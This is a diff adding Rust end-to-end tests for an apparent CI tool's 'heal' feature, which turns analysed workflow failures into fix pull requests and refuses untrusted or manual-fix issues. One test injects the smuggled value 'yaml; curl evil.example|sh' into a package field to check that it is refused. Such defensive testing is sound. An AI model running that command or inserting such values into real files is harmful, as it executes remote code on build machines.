@@ -1,0 +1,609 @@
+//! `heal` end to end: the real binary, real `issues` and `workflow_dispatch`
+//! payloads, the stateful fake GitHub. An analysed failure's issue becomes a
+//! branch with one commit, a pull request and an issue comment; triggers
+//! again update the same pull request; `needs-manual-fix` and untrusted
+//! issues stop it.
+
+use serde_json::{Value, json};
+
+use crate::analyze_flow::{gha_log, missing_module_log};
+use crate::support::action::{ActionRun, Runner, workflow_run_payload};
+use crate::support::fake_github::{
+    CI_WORKFLOW_PATH, DEFAULT_BRANCH, FakeGithub, IssueBuilder, JobBuilder, MAINTAINER, OWNER,
+    REPO, RunBuilder,
+};
+
+/// The Python workflow the tests fail and heal.
+const PY_WORKFLOW: &str = "\
+name: CI
+on:
+  push:
+    branches: [main]
+  pull_request:
+  workflow_dispatch:
+jobs:
+  test:
+    name: test (${{ matrix.python }})
+    runs-on: ubuntu-latest
+    strategy:
+      matrix:
+        python: ['3.12']
+    steps:
+      - uses: actions/checkout@v4
+      - uses: actions/setup-python@v5
+        with:
+          python-version: ${{ matrix.python }}
+      # Keep the test dependencies short.
+      - name: Install dependencies
+        run: |
+          python -m pip install --upgrade pip
+          pip install pytest   # the runner
+      - run: pytest -q
+";
+
+/// Seeds the workflow and config, fails a run, and lets `analyze` file the issue.
+async fn analysed_issue(fake: &FakeGithub, log: String) -> u64 {
+    fake.commit_files(
+        DEFAULT_BRANCH,
+        &[
+            (CI_WORKFLOW_PATH, PY_WORKFLOW),
+            (".github/ci-medic.yml", "retry:\n  enabled: false\n"),
+        ],
+        "Python CI",
+    );
+    let run = fake
+        .add_run(
+            RunBuilder::new("CI").path(CI_WORKFLOW_PATH).job(
+                JobBuilder::failed("test (3.12)")
+                    .step("Set up job", Some("success"))
+                    .step("Run actions/checkout@v4", Some("success"))
+                    .step("Run actions/setup-python@v5", Some("success"))
+                    .step("Install dependencies", Some("success"))
+                    .step("Run pytest -q", Some("failure"))
+                    .step("Complete job", Some("success"))
+                    .log(log),
+            ),
+        )
+        .id;
+    let sha = fake.run(run).map(|r| r.head_sha).unwrap_or_default();
+    let payload =
+        workflow_run_payload(run, "CI", CI_WORKFLOW_PATH, "failure", DEFAULT_BRANCH, &sha);
+    let out = Runner::new(fake).run_event("workflow_run", &payload).await;
+    assert_eq!(
+        out.code, 0,
+        "analyze failed: {}\n{}",
+        out.stderr, out.stdout
+    );
+    let issues = fake.issues();
+    assert_eq!(issues.len(), 1, "{issues:?}");
+    let _ = fake.labels();
+    issues[0].number
+}
+
+/// A real `issues` payload (GitHub's example) for `number` as it is now.
+fn issues_payload(
+    fake: &FakeGithub,
+    number: u64,
+    action: &str,
+    label: &str,
+    sender: &str,
+) -> Value {
+    let text = std::fs::read_to_string(concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/fixtures/webhooks/issues/09-labeled.json"
+    ))
+    .expect("fixture");
+    let mut v: Value = serde_json::from_str(&text).expect("fixture json");
+    let issue = fake.issue(number).expect("issue");
+    v["action"] = action.into();
+    v["issue"]["number"] = number.into();
+    v["issue"]["title"] = issue.title.clone().into();
+    v["issue"]["body"] = issue.body.clone().into();
+    v["issue"]["state"] = issue.state.clone().into();
+    v["issue"]["user"]["login"] = issue.user.clone().into();
+    v["issue"]["labels"] = issue
+        .labels
+        .iter()
+        .map(|l| json!({"name": l}))
+        .collect::<Vec<_>>()
+        .into();
+    v["label"] = json!({"name": label});
+    v["sender"]["login"] = sender.into();
+    v["repository"]["full_name"] = format!("{OWNER}/{REPO}").into();
+    v
+}
+
+async fn labeled(fake: &FakeGithub, number: u64) -> ActionRun {
+    let payload = issues_payload(fake, number, "labeled", "auto-heal", MAINTAINER);
+    Runner::new(fake).run_event("issues", &payload).await
+}
+
+/// A `workflow_dispatch` of ci-medic's own workflow asking to heal `number`.
+async fn dispatched(fake: &FakeGithub, number: u64) -> ActionRun {
+    let text = std::fs::read_to_string(concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/fixtures/webhooks/workflow_dispatch/00-event.json"
+    ))
+    .expect("fixture");
+    let mut v: Value = serde_json::from_str(&text).expect("fixture json");
+    v["inputs"] = json!({"issue": number.to_string()});
+    v["repository"]["full_name"] = format!("{OWNER}/{REPO}").into();
+    Runner::new(fake).run_event("workflow_dispatch", &v).await
+}
+
+fn block_fingerprint(body: &str) -> String {
+    let start = body.rfind("<!-- ci-medic:analysis ").expect("block") + 23;
+    let end = body[start..].find(" -->").expect("end") + start;
+    let v: Value = serde_json::from_str(&body[start..end]).expect("json");
+    v["fingerprint"].as_str().expect("fingerprint").to_string()
+}
+
+#[tokio::test]
+async fn labeled_issue_becomes_one_pull_request_and_triggers_again_update_it() {
+    let fake = FakeGithub::start().await;
+    let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
+    let body = fake.issue(n).and_then(|i| i.body).unwrap_or_default();
+    let fp = block_fingerprint(&body);
+    let base = fake.head_sha(DEFAULT_BRANCH);
+
+    let out = labeled(&fake, n).await;
+    assert_eq!(
+        out.code, 0,
+        "stderr: {}\nstdout: {}",
+        out.stderr, out.stdout
+    );
+
+    // One branch, one commit on the default branch's head, the fix in it.
+    let branch = format!("ci-medic/heal-{n}-{}", &fp[..8]);
+    let head = fake
+        .branch(&branch)
+        .unwrap_or_else(|| panic!("no branch {branch}: {:?}", fake.refs()));
+    let commit = fake.commit(&head).expect("commit");
+    assert_eq!(commit.parents, vec![base.clone()]);
+    let fixed = fake
+        .file(&branch, CI_WORKFLOW_PATH)
+        .expect("workflow on the branch");
+    assert_eq!(
+        fixed,
+        PY_WORKFLOW.replace(
+            "pip install pytest   # the runner",
+            "pip install pytest PyYAML   # the runner"
+        )
+    );
+    assert_eq!(
+        fake.file(DEFAULT_BRANCH, CI_WORKFLOW_PATH).as_deref(),
+        Some(PY_WORKFLOW)
+    );
+
+    // One pull request into the default branch, explained, labelled.
+    let pulls = fake.pulls();
+    assert_eq!(pulls.len(), 1, "{pulls:?}");
+    let pr = &pulls[0];
+    assert_eq!(pr.head_ref, branch);
+    assert_eq!(pr.base_ref, DEFAULT_BRANCH);
+    assert!(pr.title.contains("PyYAML"), "{}", pr.title);
+    assert!(
+        pr.labels.contains(&"auto-heal".to_string()),
+        "{:?}",
+        pr.labels
+    );
+    let pr_body = pr.body.clone().unwrap_or_default();
+    let needles: Vec<String> = vec![
+        format!("Fixes #{n}."),
+        format!("<!-- ci-medic:heal:{n} -->"),
+        "No module named 'yaml'".into(),
+        "+          pip install pytest PyYAML   # the runner".into(),
+        "`PyYAML`".into(),
+        "<!-- ci-medic:heal-workflow:.github/workflows/ci.yml -->".into(),
+    ];
+    for needle in &needles {
+        assert!(
+            pr_body.contains(needle.as_str()),
+            "missing {needle:?} in\n{pr_body}"
+        );
+    }
+
+    // The issue points at it; the fixed workflow runs on the branch.
+    let comments = fake.comments(n);
+    assert_eq!(comments.len(), 1, "{comments:?}");
+    assert!(
+        comments[0].body.contains(&format!("Opened #{}", pr.number)),
+        "{}",
+        comments[0].body
+    );
+    let dispatches = fake.dispatches();
+    assert_eq!(dispatches.len(), 1, "{dispatches:?}");
+    assert_eq!(dispatches[0].git_ref, branch);
+    assert_eq!(out.outputs.get("pr-number"), Some(&pr.number.to_string()));
+    let _ = fake.runs();
+
+    // The same trigger again, and a dispatch: the same pull request, no new commit.
+    let again = labeled(&fake, n).await;
+    assert_eq!(again.code, 0, "{}", again.stderr);
+    let again = dispatched(&fake, n).await;
+    assert_eq!(again.code, 0, "{}", again.stderr);
+    assert_eq!(fake.pulls().len(), 1, "never a second pull request");
+    assert_eq!(
+        fake.branch(&branch).as_deref(),
+        Some(head.as_str()),
+        "the branch did not move"
+    );
+    let comments = fake.comments(n);
+    assert_eq!(comments.len(), 1, "the comment is updated, not repeated");
+    assert!(
+        comments[0]
+            .body
+            .contains(&format!("Updated #{}", pr.number)),
+        "{}",
+        comments[0].body
+    );
+    assert_eq!(
+        fake.dispatches().len(),
+        1,
+        "no new verification for an unchanged branch"
+    );
+    fake.assert_clean();
+}
+
+#[tokio::test]
+async fn a_changed_fix_force_updates_the_same_branch_and_pull_request() {
+    let fake = FakeGithub::start().await;
+    let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
+    assert_eq!(labeled(&fake, n).await.code, 0);
+    let pr = fake.pulls()[0].clone();
+    let first_head = fake.branch(&pr.head_ref).expect("branch");
+    let _ = fake.comments(n);
+    let _ = fake.dispatches();
+
+    // The default branch moves on (a new comment line in the install step).
+    let moved = PY_WORKFLOW.replace(
+        "      # Keep the test",
+        "      # Pinned by hand.\n      # Keep the test",
+    );
+    let new_base = fake.commit_files(
+        DEFAULT_BRANCH,
+        &[(CI_WORKFLOW_PATH, &moved)],
+        "Document the install",
+    );
+    let out = labeled(&fake, n).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let pulls = fake.pulls();
+    assert_eq!(pulls.len(), 1);
+    assert_eq!(pulls[0].number, pr.number);
+    let head = fake.branch(&pr.head_ref).expect("branch");
+    assert_ne!(head, first_head);
+    assert_eq!(fake.commit(&head).map(|c| c.parents), Some(vec![new_base]));
+    let fixed = fake
+        .file(&pr.head_ref, CI_WORKFLOW_PATH)
+        .unwrap_or_default();
+    assert!(fixed.contains("      # Pinned by hand.\n"), "{fixed}");
+    assert!(
+        fixed.contains("pip install pytest PyYAML   # the runner"),
+        "{fixed}"
+    );
+    let _ = fake.comments(n);
+    assert_eq!(
+        fake.dispatches().len(),
+        2,
+        "the new commit is verified again"
+    );
+    let _ = fake.runs();
+    fake.assert_clean();
+}
+
+#[tokio::test]
+async fn requirements_files_get_the_missing_distribution() {
+    let fake = FakeGithub::start().await;
+    let wf = PY_WORKFLOW.replace(
+        "pip install pytest   # the runner",
+        "pip install -r requirements-dev.txt",
+    );
+    fake.commit_files(
+        DEFAULT_BRANCH,
+        &[
+            (CI_WORKFLOW_PATH, &wf),
+            ("requirements-dev.txt", "pytest==8.2.0\n"),
+        ],
+        "Requirements",
+    );
+    let n = analysed_issue_with(&fake, &wf, missing_module_log(3, "tmpq")).await;
+    let out = labeled(&fake, n).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let pr = fake.pulls().pop().expect("pull request");
+    assert_eq!(
+        fake.file(&pr.head_ref, "requirements-dev.txt").as_deref(),
+        Some("pytest==8.2.0\nPyYAML\n")
+    );
+    assert_eq!(
+        fake.file(&pr.head_ref, CI_WORKFLOW_PATH).as_deref(),
+        Some(wf.as_str())
+    );
+    assert!(pr.title.contains("requirements-dev.txt"), "{}", pr.title);
+    let _ = fake.comments(n);
+    let _ = fake.dispatches();
+    let _ = fake.runs();
+    fake.assert_clean();
+}
+
+/// Like [`analysed_issue`] with another workflow already committed.
+async fn analysed_issue_with(fake: &FakeGithub, wf: &str, log: String) -> u64 {
+    assert_eq!(
+        fake.file(DEFAULT_BRANCH, CI_WORKFLOW_PATH).as_deref(),
+        Some(wf)
+    );
+    fake.commit_files(
+        DEFAULT_BRANCH,
+        &[(".github/ci-medic.yml", "retry:\n  enabled: false\n")],
+        "Config",
+    );
+    let run = fake
+        .add_run(
+            RunBuilder::new("CI").path(CI_WORKFLOW_PATH).job(
+                JobBuilder::failed("test (3.12)")
+                    .step("Set up job", Some("success"))
+                    .step("Run actions/checkout@v4", Some("success"))
+                    .step("Run actions/setup-python@v5", Some("success"))
+                    .step("Install dependencies", Some("success"))
+                    .step("Run pytest -q", Some("failure"))
+                    .log(log),
+            ),
+        )
+        .id;
+    let sha = fake.run(run).map(|r| r.head_sha).unwrap_or_default();
+    let payload =
+        workflow_run_payload(run, "CI", CI_WORKFLOW_PATH, "failure", DEFAULT_BRANCH, &sha);
+    let out = Runner::new(fake).run_event("workflow_run", &payload).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let _ = fake.labels();
+    fake.issues()[0].number
+}
+
+#[tokio::test]
+async fn needs_manual_fix_stops_heal() {
+    let fake = FakeGithub::start().await;
+    let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
+    fake.with_world(|w| {
+        let (env, repo, _) = w.split(&format!("{OWNER}/{REPO}")).expect("repo");
+        repo.add_issue_labels(env, n, &["needs-manual-fix".to_string()], MAINTAINER);
+    });
+    let out = labeled(&fake, n).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let out = dispatched(&fake, n).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(out.stdout.contains("needs a manual fix"), "{}", out.stdout);
+    assert!(fake.pulls().is_empty());
+    assert!(fake.comments(n).is_empty());
+    assert!(
+        fake.requests_to("POST", r"/git/").is_empty(),
+        "nothing committed"
+    );
+    fake.assert_clean();
+}
+
+#[tokio::test]
+async fn without_auto_heal_nothing_happens() {
+    let fake = FakeGithub::start().await;
+    let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
+    fake.with_world(|w| {
+        let (env, repo, _) = w.split(&format!("{OWNER}/{REPO}")).expect("repo");
+        repo.remove_issue_label(env, n, "auto-heal", MAINTAINER);
+    });
+    let out = dispatched(&fake, n).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(
+        out.stdout.contains("lacks the `auto-heal`"),
+        "{}",
+        out.stdout
+    );
+    assert!(fake.pulls().is_empty());
+    assert!(fake.comments(n).is_empty());
+    fake.assert_clean();
+}
+
+/// An issue by someone else holding a copy of a real analysis block.
+async fn copied_issue(fake: &FakeGithub, author: &str) -> u64 {
+    let real = analysed_issue(fake, missing_module_log(1, "tmpa1b2c3")).await;
+    let body = fake.issue(real).and_then(|i| i.body).unwrap_or_default();
+    // Close the real one so only the copy is in play.
+    fake.with_world(|w| {
+        let (_, repo, _) = w.split(&format!("{OWNER}/{REPO}")).expect("repo");
+        if let Some(i) = repo.issues.get_mut(&real) {
+            i.state = "closed".into();
+        }
+    });
+    fake.set_permission(author, "read");
+    fake.add_issue(
+        IssueBuilder::new("CI: dependency in test (3.12)")
+            .body(&body)
+            .user(author)
+            .label("auto-heal")
+            .label("workflow-failure"),
+    )
+}
+
+#[tokio::test]
+async fn untrusted_issues_get_one_explanation_and_no_pull_request() {
+    let fake = FakeGithub::start().await;
+    let n = copied_issue(&fake, "mallory").await;
+    for _ in 0..2 {
+        let payload = issues_payload(&fake, n, "labeled", "auto-heal", "mallory");
+        let out = Runner::new(&fake).run_event("issues", &payload).await;
+        assert_eq!(out.code, 0, "{}", out.stderr);
+    }
+    let comments = fake.comments(n);
+    assert_eq!(comments.len(), 1, "{comments:?}");
+    let c = &comments[0].body;
+    assert!(
+        c.starts_with(&format!("<!-- ci-medic:heal-refused:{n} -->")),
+        "{c}"
+    );
+    assert!(c.contains("write access"), "{c}");
+    assert!(!c.contains("@mallory"), "no live mention: {c}");
+    assert!(fake.pulls().is_empty());
+    assert!(
+        fake.requests_to("POST", r"/git/").is_empty(),
+        "nothing committed"
+    );
+    let _ = fake.issue_events(n);
+    fake.assert_clean();
+}
+
+#[tokio::test]
+async fn a_maintainer_applying_auto_heal_vouches_for_the_issue() {
+    let fake = FakeGithub::start().await;
+    let real = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
+    let body = fake.issue(real).and_then(|i| i.body).unwrap_or_default();
+    fake.with_world(|w| {
+        let (_, repo, _) = w.split(&format!("{OWNER}/{REPO}")).expect("repo");
+        if let Some(i) = repo.issues.get_mut(&real) {
+            i.state = "closed".into();
+        }
+    });
+    let n = fake.add_issue(
+        IssueBuilder::new("Copied by a contributor")
+            .body(&body)
+            .user("contributor")
+            .label("workflow-failure"),
+    );
+    fake.with_world(|w| {
+        let (env, repo, _) = w.split(&format!("{OWNER}/{REPO}")).expect("repo");
+        repo.add_issue_labels(env, n, &["auto-heal".to_string()], MAINTAINER);
+    });
+    let out = labeled(&fake, n).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let pulls = fake.pulls();
+    assert_eq!(pulls.len(), 1);
+    assert!(fake.branch(&pulls[0].head_ref).is_some());
+    let _ = fake.comments(n);
+    let _ = fake.dispatches();
+    let _ = fake.runs();
+    fake.assert_clean();
+}
+
+#[tokio::test]
+async fn hostile_analysis_blocks_are_not_acted_on() {
+    let fake = FakeGithub::start().await;
+    let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
+    // The bot's own issue, but a package name that tries to run a command.
+    let body = fake.issue(n).and_then(|i| i.body).unwrap_or_default();
+    let hostile = body.replace(
+        "\"package\":\"yaml\"",
+        "\"package\":\"yaml; curl evil.example|sh\"",
+    );
+    assert_ne!(hostile, body);
+    fake.with_world(|w| {
+        let (_, repo, _) = w.split(&format!("{OWNER}/{REPO}")).expect("repo");
+        if let Some(i) = repo.issues.get_mut(&n) {
+            i.body = Some(hostile.clone());
+        }
+    });
+    let out = labeled(&fake, n).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(fake.pulls().is_empty());
+    let comments = fake.comments(n);
+    assert_eq!(comments.len(), 1);
+    assert!(comments[0].body.contains("refused"), "{}", comments[0].body);
+    assert!(
+        fake.issue(n)
+            .is_some_and(|i| i.labels.contains(&"needs-manual-fix".to_string()))
+    );
+    let _ = fake.labels();
+    fake.assert_clean();
+}
+
+#[tokio::test]
+async fn failures_without_a_fix_are_handed_to_people() {
+    let fake = FakeGithub::start().await;
+    let log = gha_log(
+        4,
+        "pytest -q",
+        &["FAILED tests/test_api.py::test_get - AssertionError: assert 404 == 200"],
+    );
+    let n = analysed_issue(&fake, log).await;
+    let out = labeled(&fake, n).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(fake.pulls().is_empty());
+    let comments = fake.comments(n);
+    assert_eq!(comments.len(), 1, "{comments:?}");
+    assert!(
+        comments[0]
+            .body
+            .starts_with(&format!("<!-- ci-medic:heal-manual:{n} -->")),
+        "{}",
+        comments[0].body
+    );
+    assert!(
+        comments[0].body.contains("no automatic fix"),
+        "{}",
+        comments[0].body
+    );
+    let labels = fake.issue(n).map(|i| i.labels).unwrap_or_default();
+    assert!(
+        labels.contains(&"needs-manual-fix".to_string()),
+        "{labels:?}"
+    );
+    assert_eq!(
+        out.outputs.get("fixable").map(String::as_str),
+        Some("false")
+    );
+    let _ = fake.labels();
+    fake.assert_clean();
+}
+
+#[tokio::test]
+async fn dry_run_plans_the_pull_request_and_writes_nothing() {
+    let fake = FakeGithub::start().await;
+    let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
+    let payload = issues_payload(&fake, n, "labeled", "auto-heal", MAINTAINER);
+    let out = Runner::new(&fake)
+        .env("INPUT_DRY-RUN", "true")
+        .run_event("issues", &payload)
+        .await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(out.stdout.contains("open pull request"), "{}", out.stdout);
+    assert!(
+        out.stdout
+            .contains("commit .github/workflows/ci.yml to branch ci-medic/heal-"),
+        "{}",
+        out.stdout
+    );
+    assert!(fake.pulls().is_empty());
+    assert!(fake.comments(n).is_empty());
+    assert!(fake.requests_to("POST", r"/git/").is_empty());
+    fake.assert_clean();
+}
+
+#[tokio::test]
+async fn a_verification_run_is_reported_on_the_pull_request() {
+    let fake = FakeGithub::start().await;
+    let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
+    assert_eq!(labeled(&fake, n).await.code, 0);
+    let pr = fake.pulls().pop().expect("pull request");
+    assert!(fake.branch(&pr.head_ref).is_some());
+    let _ = fake.comments(n);
+    let _ = fake.dispatches();
+    let run = fake
+        .add_run(
+            RunBuilder::new("CI")
+                .path(CI_WORKFLOW_PATH)
+                .event("workflow_dispatch")
+                .head_branch(&pr.head_ref)
+                .job(JobBuilder::new("test (3.12)")),
+        )
+        .id;
+    let sha = fake.run(run).map(|r| r.head_sha).unwrap_or_default();
+    let payload = workflow_run_payload(run, "CI", CI_WORKFLOW_PATH, "success", &pr.head_ref, &sha);
+    let out = Runner::new(&fake).run_event("workflow_run", &payload).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let comments = fake.comments(pr.number);
+    assert_eq!(comments.len(), 1, "{comments:?}");
+    assert!(
+        comments[0]
+            .body
+            .contains("passed: the fix healed the workflow"),
+        "{}",
+        comments[0].body
+    );
+    let _ = fake.runs();
+    fake.assert_clean();
+}
